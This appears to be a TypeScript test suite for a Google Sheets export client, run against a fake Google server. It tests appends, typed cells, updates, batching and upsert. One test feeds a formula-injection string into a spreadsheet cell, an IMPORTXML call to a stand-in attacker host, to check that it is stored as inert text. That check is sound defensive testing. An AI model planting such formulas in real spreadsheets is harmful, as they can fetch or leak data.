// Reads and writes through the real googleapis client against the fake, plus the mapping
// helpers end to end (typed cells, batching, upsert).
import { generateKeyPairSync } from 'node:crypto';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { startFakeGoogle, type FakeGoogle } from '../../helpers/fake-google.js';
import {
  classifyGoogleError,
  createSheetsClient,
  type SheetsApi,
} from '../../../src/modules/integrations/sheets/client/index.js';
import {
  buildRow,
  findRowByDocumentId,
  headerMatches,
  headerRow,
  indexRowsByDocumentId,
  planAppendBatch,
  rowNumbersFor,
  rowRange,
  type ColumnMapping,
} from '../../../src/modules/integrations/sheets/mapping/index.js';

const { publicKey, privateKey } = generateKeyPairSync('rsa', {
  modulusLength: 2048,
  publicKeyEncoding: { type: 'spki', format: 'pem' },
  privateKeyEncoding: { type: 'pkcs8', format: 'pem' },
});
const EMAIL = 'exporter@docpipe-test.iam.gserviceaccount.com';

const columns: ColumnMapping[] = [
  { header: 'Document ID', field: 'document.id' },
  { header: 'Invoice #', field: 'fields.invoice_number' },
  { header: 'Date', field: 'fields.invoice_date' },
  { header: 'Total', field: 'fields.total' },
  { header: 'Vendor', field: 'fields.vendor' },
];

let g: FakeGoogle;
let api: SheetsApi;
let n = 0;
/** A fresh spreadsheet per test keeps row numbers predictable. */
const fresh = (sheets = ['Sheet1', 'My Sheet']) => {
  const id = `ss-${++n}`;
  g.spreadsheets.create(id, sheets);
  return id;
};

beforeAll(async () => {
  g = await startFakeGoogle();
  g.registerServiceAccount(EMAIL, publicKey);
  api = createSheetsClient(
    { type: 'service_account', key: { client_email: EMAIL, private_key: privateKey } },
    { rootUrl: g.rootUrl, timeoutMs: 5_000 },
  );
});
afterAll(async () => {
  await g.close();
});
beforeEach(() => {
  g.calls.length = 0;
});

describe('append', () => {
  it('appends below the header in order and reports the updated range and rows', async () => {
    const id = fresh();
    await api.updateRange(id, "'My Sheet'!A1", [['id', 'name', 'n']]);
    const a = await api.appendRows(id, 'My Sheet', [
      ['d1', 'one', 1],
      ['d2', 'two', 2],
    ]);
    expect(a).toEqual({ updatedRange: "'My Sheet'!A2:C3", firstRow: 2, lastRow: 3 });
    const b = await api.appendRows(id, 'My Sheet', [['d3', null, 3]]);
    expect(b).toEqual({ updatedRange: "'My Sheet'!A4:C4", firstRow: 4, lastRow: 4 });
    expect(g.spreadsheets.getValues(id, 'My Sheet')).toEqual([
      ['id', 'name', 'n'],
      ['d1', 'one', 1],
      ['d2', 'two', 2],
      ['d3', '', 3],
    ]);
    const append = g.calls.find((c) => c.kind === 'values.append');
    expect(append?.query).toMatchObject({ valueInputOption: 'USER_ENTERED', insertDataOption: 'INSERT_ROWS' });
  });

  it('does not let the library retry a 500: exactly one call reaches the server', async () => {
    const id = fresh();
    g.failNext(1, 500);
    await expect(api.appendRows(id, 'Sheet1', [['x']])).rejects.toThrow();
    expect(g.calls.filter((c) => c.kind === 'values.append')).toHaveLength(1);
    expect(g.spreadsheets.getValues(id, 'Sheet1')).toEqual([]);
  });

  it('rejects an empty append without calling the API', async () => {
    await expect(api.appendRows(fresh(), 'Sheet1', [])).rejects.toThrow(RangeError);
    expect(g.calls).toHaveLength(0);
  });
});

describe('typed cells over the wire (USER_ENTERED)', () => {
  it('numbers and dates stay typed; hostile and number-like text stays literal text', async () => {
    const id = fresh();
    const row = buildRow(columns, {
      document: { id: 'doc_1' },
      fields: {
        invoice_number: { value: '00123', confidence: 0.9, method: 'regex' },
        invoice_date: '2024-03-05T10:00:00Z',
        total: { value: 1234.5, confidence: 0.8, method: 'generic' },
        vendor: '=IMPORTXML("http://evil.example/x","//a")',
      },
    });
    await api.appendRows(id, 'Sheet1', [row]);
    expect(g.spreadsheets.getValues(id, 'Sheet1')).toEqual([
      ['doc_1', '00123', { date: '2024-03-05' }, 1234.5, '=IMPORTXML("http://evil.example/x","//a")'],
    ]);
    // Control: the same strings without typedCell would have been parsed.
    await api.appendRows(id, 'Sheet1', [['00123', '=1+1', 'TRUE']]);
    expect(g.spreadsheets.getValues(id, 'Sheet1')[1]).toEqual([123, { formula: '=1+1' }, true]);
  });

  it('reads back formatted strings by default and raw numbers/date serials on request', async () => {
    const id = fresh();
    await api.appendRows(id, 'Sheet1', [['doc', 12.5, '2024-01-01', true]]);
    expect(await api.getValues(id, 'Sheet1!A1:D')).toEqual([['doc', '12.5', '2024-01-01', 'TRUE']]);
    expect(await api.getValues(id, 'Sheet1!A1:D', { render: 'UNFORMATTED_VALUE' })).toEqual([
      ['doc', 12.5, 45292, true],
    ]);
  });
});

describe('get and update', () => {
  it('updates one row in place and reads ranges in both quoting styles', async () => {
    const id = fresh();
    g.spreadsheets.setValues(id, 'My Sheet', [
      ['h1', 'h2', 'h3'],
      ['a', 'b', 'c'],
      ['d', 'e', 'f'],
    ]);
    const res = await api.updateRange(id, rowRange('My Sheet', 3, 3), [['D', null, 'F']]);
    expect(res).toEqual({ updatedRange: "'My Sheet'!A3:C3", updatedRows: 1 });
    expect(await api.getValues(id, "'My Sheet'!A:C")).toEqual([
      ['h1', 'h2', 'h3'],
      ['a', 'b', 'c'],
      ['D', '', 'F'],
    ]);
    expect(await api.getValues(id, "'My Sheet'!B2:C2")).toEqual([['b', 'c']]);
  });

  it('a write that overflows a bounded range is a fatal 400 with Google’s message', async () => {
    const id = fresh();
    const err = await api.updateRange(id, 'Sheet1!A1:B1', [['a', 'b', 'c']]).catch((e: unknown) => e);
    expect(classifyGoogleError(err)).toMatchObject({
      kind: 'fatal',
      status: 400,
      code: 'INVALID_ARGUMENT',
      reason: expect.stringContaining('tried writing to column [C]'),
    });
  });

  it('header check against a real first row', async () => {
    const id = fresh();
    expect(headerMatches((await api.getValues(id, 'Sheet1!1:1'))[0], columns)).toMatchObject({
      ok: false,
      reason: 'empty',
    });
    await api.updateRange(id, 'Sheet1!A1', [headerRow(columns)]);
    expect(headerMatches((await api.getValues(id, 'Sheet1!1:1'))[0], columns)).toEqual({ ok: true });
  });
});

describe('batching and upsert', () => {
  it('100 documents go out in one append call and map back to their row numbers', async () => {
    const id = fresh();
    await api.updateRange(id, 'Sheet1!A1', [headerRow(columns)]);
    g.calls.length = 0;
    const pending = Array.from({ length: 100 }, (_, i) => ({
      key: `doc_${i}`,
      cells: buildRow(columns, { document: { id: `doc_${i}` }, fields: { total: i } }),
    }));
    const chunks = planAppendBatch(pending);
    expect(chunks).toHaveLength(1);
    const result = await api.appendRows(id, 'Sheet1', chunks[0].rows);
    expect(g.calls.map((c) => c.kind)).toEqual(['values.append']);
    const rows = rowNumbersFor(chunks[0], result);
    expect(rows.get('doc_0')).toBe(2);
    expect(rows.get('doc_99')).toBe(101);
    const stored = g.spreadsheets.getValues(id, 'Sheet1');
    expect(stored).toHaveLength(101);
    expect(stored[100][0]).toBe('doc_99');
    expect(stored[100][3]).toBe(99);
  });

  it('upsert: finds existing rows, rewrites them in one batchUpdate, appends the new one', async () => {
    const id = fresh();
    await api.updateRange(id, 'Sheet1!A1', [headerRow(columns)]);
    await api.appendRows(id, 'Sheet1', [
      ['doc_a', 'A-1', '', 10],
      ['doc_b', 'B-1', '', 20],
    ]);
    g.calls.length = 0;
    const values = await api.getValues(id, 'Sheet1!A:E');
    const index = indexRowsByDocumentId(values, 0);
    expect(findRowByDocumentId(values, 0, 'doc_b')).toBe(3);
    const updates = ['doc_a', 'doc_b'].map((docId, i) => ({
      range: rowRange('Sheet1', index.get(docId)!, columns.length),
      rows: [buildRow(columns, { document: { id: docId }, fields: { invoice_number: `${docId}-v2`, total: 100 + i } })],
    }));
    await expect(api.updateRanges(id, updates)).resolves.toEqual({ updatedRows: 2 });
    expect(index.has('doc_c')).toBe(false);
    await api.appendRows(id, 'Sheet1', [buildRow(columns, { document: { id: 'doc_c' }, fields: { total: 5 } })]);
    expect(g.calls.map((c) => c.kind)).toEqual(['values.get', 'values.batchUpdate', 'values.append']);
    expect(g.spreadsheets.getValues(id, 'Sheet1').slice(1)).toEqual([
      ['doc_a', 'doc_a-v2', '', 100],
      ['doc_b', 'doc_b-v2', '', 101],
      ['doc_c', '', '', 5],
    ]);
  });
});
